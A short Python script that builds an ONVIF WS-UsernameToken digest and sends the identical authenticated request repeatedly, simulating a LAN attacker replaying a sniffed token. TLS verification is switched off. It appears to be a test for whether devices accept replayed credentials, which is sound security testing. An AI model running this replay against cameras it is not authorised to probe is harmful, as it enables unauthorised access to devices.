"""Raw ONVIF requests, as an attacker on the LAN sends them: a WS-UsernameToken made
here (Base64(SHA1(nonce + created + password)), the client clock) and the same request
sent again, as a sniffed copy would be. Prints a JSON list of [HTTP status, body] pairs.

    python3 onvif_raw.py URL USER PASSWORD COUNT
"""

import base64
import datetime
import hashlib
import json
import os
import ssl
import sys
import urllib.error
import urllib.request

url, user, password, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
nonce = os.urandom(16)
created = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
digest = base64.b64encode(hashlib.sha1(nonce + created.encode() + password.encode()).digest()).decode()
body = f"""<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"
 xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
 xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">
<s:Header><wsse:Security><wsse:UsernameToken>
<wsse:Username>{user}</wsse:Username>
<wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">{digest}</wsse:Password>
<wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">{base64.b64encode(nonce).decode()}</wsse:Nonce>
<wsu:Created>{created}</wsu:Created>
</wsse:UsernameToken></wsse:Security></s:Header>
<s:Body><GetDeviceInformation xmlns="http://www.onvif.org/ver10/device/wsdl"/></s:Body>
</s:Envelope>""".encode()

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
out = []
for _ in range(count):
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/soap+xml; charset=utf-8"})
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as r:
            out.append([r.status, r.read().decode(errors="replace")])
    except urllib.error.HTTPError as e:
        out.append([e.code, e.read().decode(errors="replace")])
print(json.dumps(out))
